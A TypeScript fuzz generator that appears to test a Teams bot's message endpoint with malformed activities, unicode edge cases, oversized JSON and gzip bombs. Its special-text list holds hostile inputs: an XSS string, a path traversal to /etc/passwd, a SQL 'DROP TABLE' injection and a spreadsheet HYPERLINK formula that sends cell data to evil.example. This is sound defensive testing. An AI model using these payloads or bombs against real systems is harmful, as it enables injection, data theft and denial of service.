import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { z } from 'zod';
import { KNOWN_COMMANDS } from '../../src/commands.js';
import { FORM_FIELDS } from '../../src/issues/fields.js';
import { VERBS as DECLARED_VERBS } from '../../src/registry/index.js';
import { mulberry32 } from '../../test/support/teams-connector.js';
import { gzipBomb } from './bodies.js';

/**
 * Generated requests for /api/messages: well-formed activities of every kind the bot handles, and the same
 * broken in every way a client (or an attacker) can break them — missing fields, wrong types, huge and deep
 * JSON, unicode edge cases, compressed bodies and bombs, invalid card values, unknown invokes.
 * Case `i` of seed `s` depends on (s, i) only, so any failure reproduces alone with `--seed s --only i`.
 */

export interface FuzzUsers {
  staff: FuzzUser;
  champion: FuzzUser;
  lead: FuzzUser;
}
export interface FuzzUser {
  id: string;
  aadObjectId: string;
  name: string;
}

export interface FuzzContext {
  /** Where replies to non-expectReplies activities go: a local sink that answers like the connector. */
  serviceUrl: string;
  users: FuzzUsers;
}

export interface FuzzCase {
  index: number;
  /** What was generated, e.g. "message/unicode+gzip". */
  kind: string;
  activityId?: string;
  headers: Record<string, string>;
  body: Buffer;
  /** A well-formed activity: it must be answered 2xx, not refused. */
  wellFormed: boolean;
  /** Send it twice, as Teams retries: the repeat must be answered too (an invoke: with the same answer). */
  repeat: boolean;
}

/** mulberry32 over a seed mixed from (seed, index). */
export function rngFor(seed: number, index: number): () => number {
  return mulberry32((Math.imul(seed >>> 0, 0x9e3779b1) ^ Math.imul(index + 1, 0x85ebca77)) >>> 0);
}

class Gen {
  constructor(readonly rand: () => number) {}
  int(min: number, max: number): number {
    return min + Math.floor(this.rand() * (max - min + 1));
  }
  chance(p: number): boolean {
    return this.rand() < p;
  }
  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.rand() * xs.length)]!;
  }
  /** Picks by weight: [[weight, value], …]. */
  weighted<T>(xs: readonly (readonly [number, T])[]): T {
    let r = this.rand() * xs.reduce((a, [w]) => a + w, 0);
    for (const [w, v] of xs) {
      r -= w;
      if (r < 0) return v;
    }
    return xs[xs.length - 1]![1];
  }
}

const UNICODE_EDGES = [
  '\uD800', // lone high surrogate
  '\uDFFF', // lone low surrogate
  'end\uD83D', // emoji cut in half
  'مرحبا بالعالم', // RTL
  'שלום \u200F', // RTL mark
  '\u202Egnp.exe\u202C', // right-to-left override
  '\u200B\u200C\u200D\uFEFF', // zero-width characters and a BOM
  '😀👩‍💻🏳️‍🌈🇰🇪', // 4-byte emoji and ZWJ sequences
  'e\u0301\u0302\u0303\u0304', // stacked combining marks
  '\u0000\u0001\u0007\u001b[31m\u007f\u0085', // control characters
  '\r\n\r\t', // line breaks
  '𝕳𝖊𝖑𝖑𝖔', // mathematical letters (astral)
  '\uFFFE\uFFFF', // non-characters
  'İıŞş ß ﬁ', // case-mapping oddities
];

const SPECIAL_TEXT = [
  '<at>Rollout Desk</at>',
  '<script>alert(1)</script>',
  '${{x}} {{x}} ${x}',
  '**bold** _it_ [link](javascript:alert(1))',
  '%s%n%x',
  '../../etc/passwd',
  "'; DROP TABLE Issues; --",
  '=HYPERLINK("http://evil.example/?"&A1)',
  'Printer;=1+2',
  'R-0001',
  'R-99999999999999999999',
  '__proto__',
  'constructor',
  'null',
];

/** Plan message ids of the sample plan, and ids that name nothing. */
const PLAN_IDS = ['golive-week-before', 'golive-day', 'weekly-tip', 'cutover', 'nope', 'x'.repeat(61)];

const QUESTIONS = [
  'the submit button is greyed out',
  'how do I reset my password',
  'sync fails every evening',
  'how do I record a household visit offline',
  'who can see my data',
  'where are the reports',
];

/** Every card verb the app declares (its registry), so a new verb is fuzzed without touching this file. */
const VERBS = DECLARED_VERBS.map((v) => v.verb);

/** Each declared verb's data fields and their schemas, read from the verb's zod object. */
const VERB_FIELDS = new Map<string, Record<string, z.ZodType>>(
  DECLARED_VERBS.map((v) => [v.verb, v.data instanceof z.ZodObject ? (v.data.shape as Record<string, z.ZodType>) : {}]),
);

const INVOKE_NAMES = [
  'task/fetch',
  'task/submit',
  'composeExtension/fetchTask',
  'composeExtension/submitAction',
  'composeExtension/selectItem',
  'composeExtension/querySettingUrl',
  'signin/verifyState',
  'signin/tokenExchange',
  'fileConsent/invoke',
  'actionableMessage/executeAction',
  'application/search',
  'config/fetch',
  'message/submitAction',
  'healthCheck',
  '',
];

function text(g: Gen): string {
  return g.weighted<() => string>([
    [4, () => g.pick(KNOWN_COMMANDS)],
    [2, () => `${g.pick(KNOWN_COMMANDS)} ${g.pick([...SPECIAL_TEXT, ...UNICODE_EDGES])}`],
    [4, () => g.pick(QUESTIONS)],
    [3, () => g.pick(UNICODE_EDGES) + g.pick(QUESTIONS) + g.pick(UNICODE_EDGES)],
    [2, () => g.pick(SPECIAL_TEXT)],
    [2, () => longString(g)],
    [1, () => ''],
    [1, () => ' \n\t '],
    [1, () => `<at>Rollout Desk</at> ${g.pick(KNOWN_COMMANDS)}`],
    [1, () => `issue R-${String(g.int(0, 99)).padStart(4, '0')}`],
    [1, () => `${g.pick(KNOWN_COMMANDS)} ${g.pick(PLAN_IDS)}`],
    [1, () => `triage status:${g.pick(['new', 'closed', 'junk', ''])} site:${g.pick(UNICODE_EDGES)}`],
    [1, () => `gaps ${g.pick(['0', '-1', '30', '99999999999999999999', 'NaN', '1e9'])}`],
  ])();
}

function longString(g: Gen): string {
  const n = g.pick([119, 120, 121, 500, 4_000, 28_000, 40_000]);
  const unit = g.pick(['a', 'é', '😀', 'word ', '\u200B', 'ab\uD800']);
  return unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
}

/** A value of any JSON type, small, sometimes odd. */
function anyValue(g: Gen, depth = 0): unknown {
  return g.weighted<() => unknown>([
    [3, () => g.pick([...SPECIAL_TEXT, ...UNICODE_EDGES, ''])],
    [2, () => g.pick([0, -1, 1.5, 1e308, -0, 2 ** 53 + 1, Number.MAX_SAFE_INTEGER])],
    [1, () => g.chance(0.5)],
    [1, () => null],
    [depth < 3 ? 1 : 0, () => Array.from({ length: g.int(0, 4) }, () => anyValue(g, depth + 1))],
    [
      depth < 3 ? 1 : 0,
      () => Object.fromEntries(Array.from({ length: g.int(0, 4) }, () => [g.pick(DATA_KEYS), anyValue(g, depth + 1)])),
    ],
  ])();
}

const DATA_KEYS = [
  ...new Set([...FORM_FIELDS, ...[...VERB_FIELDS.values()].flatMap((f) => Object.keys(f))]),
  'ref',
  'version',
  'questionId',
  'status',
  'priority',
  'assignee',
  'champion',
  'text',
  'visibility',
  'of',
  'list',
  'token',
  'filters',
  'days',
  'page',
  'form',
  'action',
  '__proto__',
  'constructor',
];

/**
 * Card data as a card of `verb` would send it: the verb's own fields (from the registry) mostly present,
 * each sometimes wrong; now and then a field of another verb. A field with no plausible value here gets
 * a generic one its schema accepts, so a new verb's handler is reached, not only its "out of date" reply.
 */
function cardData(g: Gen, verb: string): Record<string, unknown> {
  const data: Record<string, unknown> = {};
  const plausible: Record<string, () => unknown> = {
    ref: () => g.pick([`R-${String(g.int(1, 30)).padStart(4, '0')}`, 'R-0000', 'X-1', '']),
    // Issues' cards carry a number, adoption's an ETag-like string: both, and wrong ones.
    version: () => g.pick([g.int(0, 20), String(g.int(0, 20)), '3', -1]),
    questionId: () => g.pick(['', 'q-1', 'nope', '00000000-0000-0000-0000-000000000000']),
    title: () => text(g).slice(0, g.pick([10, 120, 200])),
    description: () => text(g),
    location: () => g.pick(['Sync screen', ...UNICODE_EDGES]),
    category: () => g.pick(['Sync / offline', 'Access / login', 'Other', 'junk']),
    severity: () => g.pick(['blocks', 'slows', 'minor', 'fatal']),
    site: () => g.pick(['Marula district', ...UNICODE_EDGES]),
    status: () => g.pick(['new', 'triaged', 'in_progress', 'resolved', 'closed', 'wont_fix', 'duplicate', 'x']),
    priority: () => g.pick(['P1', 'P2', 'P3', 'P4', 'P0', '']),
    assignee: () => g.pick(['aad-champ', 'aad-staff', 'someone']),
    text: () => text(g),
    visibility: () => g.pick(['public', 'internal', 'secret']),
    of: () => g.pick(['R-0001', 'R-0002', 'self']),
    list: () => g.pick(['mine', 'triage', 'assigned', 'everyone']),
    token: () => g.pick([null, '', 'bm90IGEgdG9rZW4=', '{"nextPartitionKey":"x"}']),
    days: () => g.pick([1, 14, 90, 0, -5, '30', 'x']),
    page: () => g.pick([0, 1, 2, 1000, 'x']),
    // The communication plan's cards.
    id: () => g.pick(PLAN_IDS),
    sendId: () => g.pick(['preview', ...PLAN_IDS.map((id) => `${id}.m0000`), '']),
    who: () => g.pick(['aad-staff', 'aad-champ, aad-staff', 'nobody', ...SPECIAL_TEXT]),
    what: () => text(g),
    audience: () => g.pick(['everyone', 'champions', 'support', 'group:nope', '']),
    timing: () => g.pick(['now', 'later', 'x']),
    date: () => g.pick(['2026-03-02', '2026-13-45', '']),
    time: () => g.pick(['09:00', '25:61', '']),
    form: () => cardData(g, 'issue.submit'),
    // A form's id (issue.submit, logAnyway, affected): 16 hex digits, else the verb's data is refused whole.
    formId: () => g.pick(['0123456789abcdef', '', 'not-a-form-id']),
    // Adoption's and privacy's cards.
    mode: () => g.pick(['add', 'update', 'x']),
    measureId: () => g.pick(['weekly-active', 'nope', '']),
    pulseId: () => g.pick(['p-1', '', 'nope']),
    draftId: () => g.pick(['2026-03-02-0123456789abcdef', '2026-03-02-nothex', '']),
    keys: () => g.pick(['aad-staff', 'aad-staff, aad-champ', '']),
    filters: () => g.pick([{}, { status: 'new' }, { site: 'Marula district' }, { status: 'x' }]),
  };
  const generic = [() => text(g), () => 'x', () => String(g.int(0, 3)), () => g.int(0, 3), () => g.chance(0.5), () => ({})];
  const own = VERB_FIELDS.get(verb) ?? {};
  // A quarter of the time every field is there and its schema accepts it, so each verb's handler is reached
  // whatever the verbs declared beside it (mostly wrong data alone left a verb with many fields to luck).
  if (g.chance(0.25)) {
    for (const [key, schema] of Object.entries(own)) {
      const candidates = [...(plausible[key] ? [plausible[key](), plausible[key](), plausible[key]()] : []), ...generic.map((f) => f())];
      data[key] = candidates.find((v) => schema.safeParse(v).success) ?? candidates[0];
    }
    return data;
  }
  for (const [key, schema] of Object.entries(own)) {
    if (!g.chance(0.8)) continue;
    if (g.chance(0.1)) data[key] = anyValue(g);
    else if (plausible[key]) data[key] = plausible[key]();
    else {
      const candidates = generic.map((f) => f());
      data[key] = candidates.find((v) => schema.safeParse(v).success) ?? candidates[0];
    }
  }
  for (const key of Object.keys(plausible)) {
    if (key in own || !g.chance(0.05)) continue;
    data[key] = g.chance(0.85) ? plausible[key]!() : anyValue(g);
  }
  return data;
}

function user(g: Gen, ctx: FuzzContext): Record<string, unknown> {
  return g.weighted<() => Record<string, unknown>>([
    [6, () => ({ ...g.pick([ctx.users.staff, ctx.users.champion, ctx.users.lead]) })],
    [1, () => ({ id: `29:fuzz-${g.int(1, 50)}`, aadObjectId: `aad-fuzz-${g.int(1, 50)}`, name: g.pick(['Fuzz', ...UNICODE_EDGES]) })],
    [1, () => ({ id: `29:fuzz-${g.int(1, 50)}`, name: 'N'.repeat(g.pick([120, 121, 500])) })],
    [1, () => ({ id: `29:noaad-${g.int(1, 5)}` })],
  ])();
}

function conversation(g: Gen, from: Record<string, unknown>): Record<string, unknown> {
  return g.weighted<() => Record<string, unknown>>([
    [6, () => ({ id: `a:personal-${String(from.id)}`, conversationType: 'personal', tenantId: 'tenant-1' })],
    [2, () => ({ id: `19:fuzz${g.int(1, 3)}@thread.tacv2;messageid=${g.int(1, 9)}`, conversationType: 'channel', tenantId: 'tenant-1', isGroup: true })],
    [1, () => ({ id: `19:group${g.int(1, 3)}@thread.v2`, conversationType: 'groupChat', tenantId: 'tenant-1' })],
  ])();
}

function baseActivity(g: Gen, ctx: FuzzContext, id: string): Record<string, unknown> {
  const from = user(g, ctx);
  const conv = conversation(g, from);
  const channel = conv.conversationType === 'channel';
  return {
    type: 'message',
    id,
    channelId: 'msteams',
    serviceUrl: ctx.serviceUrl,
    timestamp: new Date(Date.UTC(2026, 2, 2)).toISOString(),
    from,
    recipient: { id: '28:bot', name: 'Rollout Desk' },
    conversation: conv,
    channelData: channel
      ? { tenant: { id: 'tenant-1' }, team: { id: '19:team@thread.tacv2', name: 'Rollout' }, channel: { id: String(conv.id).split(';')[0] } }
      : { tenant: { id: 'tenant-1' } },
    locale: 'en-US',
    // Replies in the HTTP response most of the time; otherwise they go to the local sink.
    ...(g.chance(0.8) ? { deliveryMode: 'expectReplies' } : {}),
  };
}

type Shape = { kind: string; activity: Record<string, unknown>; wellFormed: boolean };

function wellFormedShape(g: Gen, ctx: FuzzContext, id: string): Shape {
  const a = baseActivity(g, ctx, id);
  return g.weighted<() => Shape>([
    [8, () => ({ kind: 'message', activity: { ...a, text: text(g) }, wellFormed: true })],
    [
      2,
      () => ({
        kind: 'message/mention',
        activity: {
          ...a,
          text: `<at>Rollout Desk</at> ${text(g)}`,
          entities: [{ type: 'mention', text: '<at>Rollout Desk</at>', mentioned: { id: '28:bot', name: 'Rollout Desk' } }],
        },
        wellFormed: true,
      }),
    ],
    [
      3,
      () => ({
        kind: 'message/Action.Submit',
        activity: (() => {
          const verb = g.chance(0.9) ? g.pick(VERBS) : text(g);
          return { ...a, text: undefined, value: { action: verb, ...cardData(g, verb) } };
        })(),
        wellFormed: true,
      }),
    ],
    [
      6,
      () => ({
        kind: 'invoke/adaptiveCard/action',
        activity: {
          ...a,
          type: 'invoke',
          name: 'adaptiveCard/action',
          deliveryMode: undefined,
          replyToId: `bot-msg-${g.int(1, 9)}`,
          value: (() => {
            const verb = g.chance(0.9) ? g.pick(VERBS) : `fuzz.${g.int(1, 99)}`;
            return { action: { type: 'Action.Execute', verb, data: cardData(g, verb) } };
          })(),
        },
        wellFormed: true,
      }),
    ],
    [
      1,
      () => ({
        kind: 'invoke/composeExtension/query',
        activity: {
          ...a,
          type: 'invoke',
          name: 'composeExtension/query',
          deliveryMode: undefined,
          value: { commandId: 'searchGuidance', parameters: [{ name: 'query', value: text(g) }], queryOptions: { skip: 0, count: 25 } },
        },
        wellFormed: true,
      }),
    ],
    [
      1,
      () => ({
        kind: 'installationUpdate',
        activity: { ...a, type: 'installationUpdate', action: g.pick(['add', 'remove', 'add-upgrade']) },
        wellFormed: true,
      }),
    ],
    [
      1,
      () => ({
        kind: 'conversationUpdate',
        activity: { ...a, type: 'conversationUpdate', membersAdded: [{ id: '28:bot' }, { id: String((a.from as FuzzUser).id) }] },
        wellFormed: true,
      }),
    ],
    [
      1,
      () => ({
        kind: 'other-type',
        activity: { ...a, type: g.pick(['messageReaction', 'typing', 'event', 'endOfConversation', 'messageUpdate', 'messageDelete', 'fuzzType']) },
        wellFormed: true,
      }),
    ],
  ])();
}

/** Breaks a well-formed activity at the JSON level. */
function mutate(g: Gen, shape: Shape): Shape {
  const a = structuredClone(shape.activity);
  const how = g.weighted<string>([
    [3, 'missing-field'],
    [3, 'wrong-type'],
    [2, 'invalid-invoke-value'],
    [2, 'unknown-invoke'],
    [1, 'nested-wrong-type'],
    [1, 'deep'],
    [1, 'many-keys'],
    [1, 'bad-dates'],
  ]);
  const fields = ['type', 'id', 'serviceUrl', 'from', 'conversation', 'recipient', 'channelId', 'text', 'value', 'channelData', 'entities', 'attachments', 'name', 'replyToId', 'locale', 'deliveryMode'];
  switch (how) {
    case 'missing-field':
      delete a[g.pick(fields)];
      break;
    case 'wrong-type':
      a[g.pick(fields)] = anyValue(g);
      break;
    case 'invalid-invoke-value':
      a.type = 'invoke';
      a.name = 'adaptiveCard/action';
      delete a.deliveryMode;
      a.value = g.pick<unknown>([
        'a string',
        42,
        [],
        {},
        { action: 'issue.mine' },
        { action: { type: 'Action.Submit', verb: 'issue.mine' } },
        { action: { type: 'Action.Execute' } },
        { action: { type: 'Action.Execute', verb: '' } },
        { action: { type: 'Action.Execute', verb: 'x'.repeat(5000) } },
        { action: { type: 'Action.Execute', verb: g.pick(VERBS), data: 'not an object' } },
        { action: { type: 'Action.Execute', verb: g.pick(VERBS), data: [1, 2] } },
        { action: { type: 'Action.Execute', verb: g.pick(VERBS), data: null } },
      ]);
      break;
    case 'unknown-invoke':
      a.type = 'invoke';
      delete a.deliveryMode;
      a.name = g.chance(0.8) ? g.pick(INVOKE_NAMES) : g.pick([...SPECIAL_TEXT, ...UNICODE_EDGES]);
      a.value = anyValue(g);
      break;
    case 'nested-wrong-type': {
      const obj = g.pick(['from', 'conversation', 'recipient', 'channelData']);
      const inner = g.pick(['id', 'name', 'aadObjectId', 'conversationType', 'tenantId', 'tenant', 'team', 'channel']);
      a[obj] = { ...(typeof a[obj] === 'object' && a[obj] ? (a[obj] as object) : {}), [inner]: anyValue(g) };
      break;
    }
    case 'deep': {
      let v: unknown = 'bottom';
      for (let i = g.pick([10, 40, 64, 65, 1000]); i > 0; i--) v = g.chance(0.5) ? [v] : { k: v };
      a[g.pick(['channelData', 'value', 'entities', 'attachments'])] = v;
      break;
    }
    case 'many-keys':
      a.channelData = Object.fromEntries(Array.from({ length: g.pick([1000, 20_000]) }, (_, i) => [`k${i}`, i]));
      break;
    case 'bad-dates':
      a.timestamp = g.pick(['not a date', '9999-99-99', '', '2026-13-45T25:61:61Z']);
      a.localTimestamp = anyValue(g);
      break;
  }
  return { kind: `${shape.kind}!${how}`, activity: a, wellFormed: false };
}

/** The case's bytes and headers: mostly plain JSON; sometimes compressed, broken, or a bomb. */
function encode(g: Gen, shape: Shape): { kind: string; body: Buffer; headers: Record<string, string>; wellFormed: boolean } {
  const json = Buffer.from(JSON.stringify(shape.activity));
  const headers: Record<string, string> = { 'content-type': 'application/json; charset=utf-8' };
  const how = g.weighted<string>([
    [80, 'plain'],
    [4, 'gzip'],
    [2, 'deflate'],
    [2, 'br'],
    [2, 'bomb'],
    [1, 'bad-gzip'],
    [1, 'unknown-encoding'],
    [1, 'not-json'],
    [1, 'truncated'],
    [1, 'primitive'],
    [1, 'content-type'],
    [1, 'over-limit'],
    [1, 'empty'],
  ]);
  const broken = (body: Buffer, extra: Record<string, string> = {}) => ({
    kind: `${shape.kind}+${how}`,
    body,
    headers: { ...headers, ...extra },
    wellFormed: false,
  });
  switch (how) {
    case 'plain':
      return { kind: shape.kind, body: json, headers, wellFormed: shape.wellFormed };
    case 'gzip':
      return { kind: `${shape.kind}+gzip`, body: gzipSync(json), headers: { ...headers, 'content-encoding': 'gzip' }, wellFormed: shape.wellFormed };
    case 'deflate':
      return { kind: `${shape.kind}+deflate`, body: deflateSync(json), headers: { ...headers, 'content-encoding': 'deflate' }, wellFormed: shape.wellFormed };
    case 'br':
      return { kind: `${shape.kind}+br`, body: brotliCompressSync(json), headers: { ...headers, 'content-encoding': 'br' }, wellFormed: shape.wellFormed };
    case 'bomb':
      return broken(gzipBomb(g.pick([2, 50, 200, 1024]) * 1024 * 1024), { 'content-encoding': 'gzip' });
    case 'bad-gzip':
      return broken(g.chance(0.5) ? json : gzipSync(json).subarray(0, 20), { 'content-encoding': 'gzip' });
    case 'unknown-encoding':
      return broken(json, { 'content-encoding': g.pick(['compress', 'zstd', 'gzip, gzip', 'x'.repeat(300)]) });
    case 'not-json':
      return broken(Buffer.from(Array.from({ length: g.int(1, 300) }, () => g.int(0, 255))));
    case 'truncated':
      return broken(json.subarray(0, g.int(1, Math.max(1, json.length - 1))));
    case 'primitive':
      return broken(Buffer.from(g.pick(['null', '42', '"text"', '[]', '[{}]', 'true', '{}'])));
    case 'content-type':
      return broken(json, { 'content-type': g.pick(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/octet-stream']) });
    case 'over-limit':
      return broken(Buffer.from(JSON.stringify({ ...shape.activity, text: 'x'.repeat(1_100_000) })));
    default:
      return broken(Buffer.alloc(0));
  }
}

export function fuzzCase(seed: number, index: number, ctx: FuzzContext): FuzzCase {
  const g = new Gen(rngFor(seed, index));
  const activityId = `fuzz-${seed}-${index}`;
  let shape = wellFormedShape(g, ctx, activityId);
  if (g.chance(0.35)) shape = mutate(g, shape);
  const encoded = encode(g, shape);
  return { index, activityId, ...encoded, repeat: g.chance(0.05) };
}
